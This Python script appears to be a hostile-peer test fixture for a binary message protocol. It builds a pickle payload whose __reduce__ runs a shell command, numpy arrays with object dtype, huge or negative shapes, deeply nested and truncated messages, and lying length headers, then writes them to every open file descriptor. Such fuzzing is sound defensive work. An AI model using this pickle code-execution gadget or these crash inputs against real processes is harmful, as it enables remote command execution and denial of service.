"""Writes messages of its own to every pipe that is open, instead of answering."""

import os
import pickle
import struct
import time

KIND = 0


class Payload:
    def __reduce__(self):
        return os.system, ("touch owned",)


def npy(header):
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header


def message(skeleton, blocks=()):
    body = struct.pack("<4sII", b"MGV1", len(skeleton), len(blocks)) + skeleton
    for block in blocks:
        body += struct.pack("<Q", len(block)) + block
    return body


ARRAY = b'[["dict",3],["str","kind"],["str","answer"],["str","number"],["int","%d"],["str","answer"],["array",0]]'
HUGE = npy(b"{'descr': '<f8', 'fortran_order': False, 'shape': (1000000, 1000000), }\n")
NEGATIVE = npy(b"{'descr': '<f8', 'fortran_order': False, 'shape': (-1,), }\n") + bytes(64)
OBJECTS = npy(b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }\n") + pickle.dumps(Payload())


def payloads(number):
    array = ARRAY % number
    good = message(b'[["dict",1],["str","kind"],["str","answer"]]')
    return [
        pickle.dumps(Payload()),
        message(array, [HUGE]),
        message(array, [NEGATIVE]),
        message(array, [OBJECTS]),
        message(b'[["list",1000000]' + b',["array",0]' * 80_000 + b"]", [HUGE]),
        message(b"[" * 60_000),
        good[:-5],
        struct.pack("<4sII", b"MGV1", 2**32 - 1, 2**32 - 1),
        message(b'[["dict",1],["str","kind"],["float","nan"]]'),
        message(b"[" + b'["tuple",1],' * 5_000 + b'["none"]]'),
        b"",
        None,
    ]


def attack(*args):
    for number in range(1, 8):
        payload = payloads(number)[KIND]
        if payload is None:
            data = struct.pack("<Q", 8 << 40) + bytes(1 << 16)
        else:
            data = struct.pack("<Q", len(payload)) + payload
        for descriptor in range(3, 40):
            try:
                os.set_blocking(descriptor, False)
                os.write(descriptor, data)
            except OSError:
                continue
    time.sleep(0.5)
    os._exit(0)
